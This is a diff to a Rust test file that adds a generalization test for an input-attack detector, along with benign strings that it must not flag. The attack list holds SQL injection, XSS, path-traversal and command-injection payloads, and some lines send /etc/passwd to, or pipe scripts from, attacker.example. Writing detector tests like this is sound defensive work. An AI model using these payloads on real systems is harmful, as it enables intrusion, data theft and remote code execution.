@@ -369,6 +369,88 @@ fn long_values_are_scanned_in_windows_linearly() {
     );
 }
 
+/// Vectors written after the rules were tuned (never used for tuning): a generalization
+/// check across classes.
+#[test]
+fn fresh_vectors_generalize() {
+    let d = Detectors::default();
+    let attacks = [
+        "1' AND (SELECT SUBSTR(table_name,1,1) FROM information_schema.tables LIMIT 1)='a'--",
+        "-1' UNION SELECT 1,group_concat(schema_name),3 FROM information_schema.schemata-- -",
+        "x' OR 'q'<>'r' --",
+        "1 AND 5=5 -- x",
+        "'; INSERT INTO users(name) VALUES('x')--",
+        "1'; UPDATE users SET role='admin' WHERE id=1--",
+        "1 AND (SELECT 7 FROM pg_sleep(4))",
+        "1' RLIKE (SELECT 1)--",
+        "')) OR 1=1 LIMIT 1#",
+        "admin\")/**/or/**/(\"1\"=\"1",
+        "1'||(SELECT CHR(65))||'",
+        "x' UNION/*x*/SELECT/*x*/null,null--",
+        "1;SELECT pg_sleep(5)",
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+        "<video><source onerror=\"alert(1)\">",
+        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
+        "<form><button formaction=javascript:alert(1)>x",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<body onhashchange=alert(1)><a href=#x>click",
+        "\"><marquee onstart=confirm(1)>",
+        "<isindex type=image src=1 onerror=alert(1)>",
+        "<embed src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
+        "`;alert(1);//",
+        "<a href=\" &#14;javascript:alert(1)\">x</a>",
+        "x;nslookup attacker.example",
+        "a|curl -d @/etc/passwd attacker.example",
+        "127.0.0.1 `sleep 5`",
+        "x && certutil -urlcache -f http://attacker.example/a.exe a.exe",
+        "$(curl attacker.example/s|sh)",
+        "x||wget -qO- attacker.example|sh",
+        "foo;bash${IFS}-c${IFS}id",
+        "a%0Auname%20-a",
+        "x & whoami /priv",
+        "y; python3 -c 'import os;os.system(\"id\")'",
+        "../../../../proc/self/environ",
+        "..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam",
+        "....\\/....\\/etc/hosts",
+        "/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
+        "..%252f..%252f..%252fapp/.env",
+        "file:///c:/windows/win.ini",
+        "zip://uploads/a.zip%23shell.php",
+        "/var/www/html/../../../root/.ssh/id_rsa",
+        "..///..///..///etc/passwd",
+    ];
+    let missed: Vec<_> = attacks.iter().filter(|v| d.inspect(v).is_none()).collect();
+    assert!(missed.is_empty(), "missed: {missed:#?}");
+    assert_benign(&[
+        "Let's meet at 5 -- or 6 if you're late",
+        "It's 5' 11\" tall; fits most doors",
+        "Select-a-Size™ shoes",
+        "\"Union Jack\" flag, 3' x 5'",
+        "Bob's Burgers & Fries; delivery",
+        "Use SELECT carefully when learning SQL",
+        "Where is O'Hare airport?",
+        "Price: 10 < x < 20",
+        "<i>italic</i> and <em>emphasis</em>",
+        "<p>Paragraph</p>",
+        "Email me: jane.o'neil@example.com",
+        "C:\\Program Files\\App\\readme.txt",
+        "../images/logo.png",
+        "Call me at (555) 010-9999 ext. 12",
+        "path/to/file.txt",
+        "Sleep well & sweet dreams",
+        "Drop-off point: Gate 4; pick-up at 6",
+        "Insert tab A into slot B",
+        "Javascript is fun",
+        "{{ user.name }}",
+        "x = 1; y = 2",
+        "I said \"and\" not \"or\"",
+        "50% & rising",
+        "Ben & Jerry's; Häagen-Dazs",
+        "Terms & Conditions apply*",
+    ]);
+}
+
 proptest! {
     #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]
 
